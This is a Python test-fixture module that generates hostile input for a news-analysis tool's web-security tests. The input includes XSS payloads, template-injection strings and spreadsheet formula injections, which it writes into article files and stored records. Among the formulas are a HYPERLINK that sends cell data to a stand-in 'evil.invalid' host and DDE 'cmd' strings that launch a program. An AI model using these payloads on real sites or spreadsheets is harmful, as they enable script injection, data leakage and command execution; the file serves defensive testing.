"""A corpus of hostile input for the web-security tests (all written here, nothing fetched).

* :data:`PAYLOADS`: XSS payloads (script tags, event handlers, ``javascript:`` URLs,
  SVG/MathML tricks, attribute break-outs, template-injection strings, CSS
  expressions, entity/encoding tricks) and spreadsheet formulas;
* :func:`write_inputs`: the payloads as article *files*, the way a user would feed
  them: plain text, HTML and JSON Lines, with payloads in title, text, URL, site,
  authors, speaker names and quotes (these go through the real readers and NLP);
* :func:`hostile_records`: hand-built analysed articles (no NLP) with a payload in
  every stored string: article key, title, URL, site, authors, quote text, speaker
  name/mention/title/affiliation, actor id/name/code, place name, event
  trigger/mode/evidence and claimant; offsets are exact.

Every payload that would run calls ``alert(n)``; the browser tests hook ``alert``.
Template-injection payloads are ``ng{{7*7}}ng`` & co.: ``ng49ng`` anywhere means one
was evaluated.
"""

from __future__ import annotations

import json
from pathlib import Path

from newsgraph.model import Actor, AnalyzedArticle, Article, Entity, Event, Place, Quote, Span, Speaker

SCRIPTS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(2)>',
    '<svg onload=alert(3)>',
    '<svg><script>alert(4)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>',
    '"><script>alert(6)</script>',
    "'><img src=x onerror=alert(7)>",
    '" onmouseover="alert(8)" autofocus onfocus="alert(8)" x="',
    "' onfocus='alert(9)' autofocus tabindex='1",
    'javascript:alert(10)',
    'JaVaScRiPt:alert(11)',
    ' \tjavascript:alert(12)',
    'data:text/html,<script>alert(13)</script>',
    '<a href="javascript:alert(14)">click me</a>',
    '<iframe src="javascript:alert(15)"></iframe>',
    '<body onload=alert(16)>',
    '<details open ontoggle=alert(17)>',
    '<input autofocus onfocus=alert(18)>',
    '<video><source onerror=alert(19)></video>',
    '<object data="javascript:alert(20)"></object>',
    '<embed src="javascript:alert(21)">',
    '<base href="javascript:alert(22)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(23)">',
    '<style>body{background:url("javascript:alert(24)")}</style>',
    '<div style="background-image:url(javascript:alert(25));width:expression(alert(26))">x</div>',
    '<!--<script>alert(27)</script>-->',
    ']]><script>alert(28)</script>',
    '</textarea><script>alert(29)</script>',
    '</title><script>alert(30)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(31)>">',
    '&lt;script&gt;alert(32)&lt;/script&gt;',
    '&#60;script&#62;alert(33)&#60;/script&#62;',
    '<scr<script>ipt>alert(34)</scr</script>ipt>',
    '<a href="&#106;avascript:alert(35)">x</a>',
    '<form action="javascript:alert(36)"><button>go</button></form>',
    '<x contenteditable onblur=alert(37)>x</x>',
    '</script><script>alert(38)</script>',
    "';alert(39);//",
    '";alert(40);//',
    '<svg><a xlink:href="javascript:alert(41)"><text x="20" y="20">x</text></a></svg>',
    '<math href="javascript:alert(42)">x</math>',
    '<img src=x:alert(43) onerror=eval(src)>',
    '<link rel=stylesheet href="javascript:alert(44)">',
    '<plaintext>',
    '\u202e<script>alert(45)</script>',
]
TEMPLATES = ['ng{{7*7}}ng', 'ng${7*7}ng', 'ng#{7*7}ng', 'ng{{ 7*7 }}ng', 'ng<%= 7*7 %>ng', 'ng{%print(7*7)%}ng',
             "ng{{constructor.constructor('alert(46)')()}}ng"]
EVALUATED = "ng49ng"  # what an evaluated template payload would show
FORMULAS = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PAYLOADS = SCRIPTS + TEMPLATES + FORMULAS
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FILLER = ("The regional government said on Monday that the talks about water would continue next week. "
          "Farmers in the valley have complained about the shortage for months.")


def _sentences(p: str, i: int) -> str:
    return (f"Minister Ivan Petrov{i} said on Monday that {p} was not acceptable. "
            f"\"We will not accept {p} at the border,\" said Anna Sidorova{i}, the foreign minister. "
            f"Troops attacked protesters near {p} in Osh. {FILLER}")


def write_inputs(folder: Path) -> list[Path]:
    """Write the payloads as .txt, .html and .jsonl article files under ``folder``; returns the paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    lines = []
    for i, p in enumerate(PAYLOADS):
        lines.append(json.dumps({
            "id": f"xss-jsonl-{i}-{p}", "title": f"Report {i}: {p}", "text": f"{_sentences(p, i)}",
            "url": p if i % 3 == 0 else f"https://example.org/news?q={p}", "site": p, "authors": [p, f"Reporter {i}"],
            "published": f"2024-05-{1 + i % 28:02d}", "language": "en",
        }, ensure_ascii=i % 2 == 0))
    jl = folder / "hostile-feed.jsonl"
    jl.write_text("\n".join(lines) + "\n", encoding="utf-8")
    paths.append(jl)
    for i, p in enumerate(SCRIPTS[:12] + TEMPLATES[:2]):
        txt = folder / f"hostile-{i:02d}.txt"
        txt.write_text(f"2024-06-{1 + i:02d}\n\nText report {i} {p.replace(chr(10), ' ')}\n\n"
                       f"{_sentences(p, 100 + i)}\n\n{FILLER}\n", encoding="utf-8")
        paths.append(txt)
    from html import escape

    for i, p in enumerate(SCRIPTS[12:24] + TEMPLATES[2:4]):
        e = escape(p)
        page = (f"<!doctype html><html><head><title>HTML report {i} {e}</title>"
                f"<meta property=\"og:site_name\" content=\"{e}\">"
                f"<meta property=\"og:url\" content=\"{e}\">"
                f"<meta name=\"author\" content=\"{e}\">"
                f"<meta property=\"article:published_time\" content=\"2024-07-{1 + i:02d}\">"
                f"<script>alert(900)</script></head><body><article><h1>HTML report {i} {e}</h1>"
                f"<p>{escape(_sentences(p, 200 + i))}</p><p>{escape(FILLER)}</p>"
                f"<p onclick=\"alert(901)\">{escape(FILLER)} <img src=x onerror=alert(902)></p>"
                f"</article></body></html>")
        h = folder / f"hostile-{i:02d}.html"
        h.write_text(page, encoding="utf-8")
        paths.append(h)
    return paths


def _key_safe(p: str) -> bool:
    return not any(c in p for c in "\t\r\n")


def hostile_records() -> list[AnalyzedArticle]:
    """One hand-built article per payload, with the payload in every stored string."""
    out = []
    for i, p in enumerate(PAYLOADS):
        parts: list[str] = []
        pos = 0

        def put(s: str) -> Span:
            nonlocal pos
            parts.append(s)
            span = Span(s, pos, pos + len(s))
            pos += len(s)
            return span

        put(f"Report {i}. Officials in ")
        place_s = put(f"{p} City")
        put(" said on Monday. \"")
        quote_s = put(f"{p} is our answer,")
        put("\" ")
        cue_s = put("said")
        put(" ")
        speaker_s = put(f"Ivan {p}")
        put(". ")
        sent_start = pos
        source_s = put(f"The {p} rebels")
        put(" ")
        trig_s = put("attacked")
        put(" ")
        target_s = put(f"Ivan {p}")
        put(" in the valley.")
        sentence = Span("".join(parts)[sent_start:pos], sent_start, pos)
        put(" " + FILLER)
        body = "".join(parts)
        key = f"xss{i}:{p}" if _key_safe(p) else f"xss{i}:formula"
        art = Article(text=body, id=key, title=f"Hostile {i} {p}", published=f"2024-08-{1 + i % 28:02d}",
                      url=p if i % 2 else f"https://example.org/{i}?x={p}", authors=[p], site=p, language="en")
        actor_id = f"person:xss{i}_{p}" if _key_safe(p) else f"person:xss{i}_formula"
        evil = dict(code=f"XS{i % 10}GOV", country="XSS", sector="GOV", name=f"{p} Ivan", kind="person",
                    id=actor_id, title=p)
        rebels = dict(code=f"XS{i % 10}REB", country="XSS", sector="REB", name=f"{p} rebels", kind="group",
                      id=f"agent:XSS:REB{i}")
        place = Place(text=place_s.text, geonameid=900000 + i, name=f"{p} City", country="KGZ",
                      latitude=40.0 + i / 100, longitude=72.0 + i / 100, feature_class="P",
                      start=place_s.start, end=place_s.end)
        speaker = Speaker(name=f"{p} Ivan", mention=speaker_s.text, start=speaker_s.start, end=speaker_s.end,
                          title=p, affiliation=p, actor=Actor(text=speaker_s.text, start=speaker_s.start,
                                                              end=speaker_s.end, **evil))
        q = Quote(kind="direct", content=quote_s.text, start=quote_s.start, end=quote_s.end, cue=cue_s,
                  speaker=speaker, sentence=Span("", 0, quote_s.end + 1))
        src = Actor(text=source_s.text, start=source_s.start, end=source_s.end, **rebels)
        tgt = Actor(text=target_s.text, start=target_s.start, end=target_s.end, **evil)
        ev = Event(type="ASSAULT", trigger=trig_s, sentence=sentence, mode=p, cameo="190", quad_class=4,
                   goldstein=-10.0, source=[src], target=[tgt], date=art.published, location=place,
                   claimed_by=speaker)
        ents = [Entity(speaker_s.text, "PERSON", speaker_s.start, speaker_s.end, actor=speaker.actor),
                Entity(source_s.text, "NORP", source_s.start, source_s.end, actor=src),
                Entity(target_s.text, "PERSON", target_s.start, target_s.end, actor=tgt),
                Entity(place_s.text, "GPE", place_s.start, place_s.end, place=place)]
        out.append(AnalyzedArticle(article=art, entities=ents, quotes=[q], events=[ev], actors=[src, tgt],
                                   places=[place]))
    return out


def build_db(path: Path, inputs: Path, *, nlp: bool = True) -> dict:
    """The hostile database: the input files through the real pipeline, plus the hand-built records."""
    from newsgraph.pipeline import ingest
    from newsgraph.store import open_store

    store = open_store(path)
    try:
        files = write_inputs(inputs)
        try:
            summary = ingest([str(f) for f in files], store, nlp=nlp)
        except Exception:  # no NLP model here: the readers and the store still get the files
            summary = ingest([str(f) for f in files], store, nlp=False)
            nlp = False
        store.write(hostile_records())
    finally:
        store.close()
    return {"path": path, "nlp": nlp, "summary": summary.to_dict()}
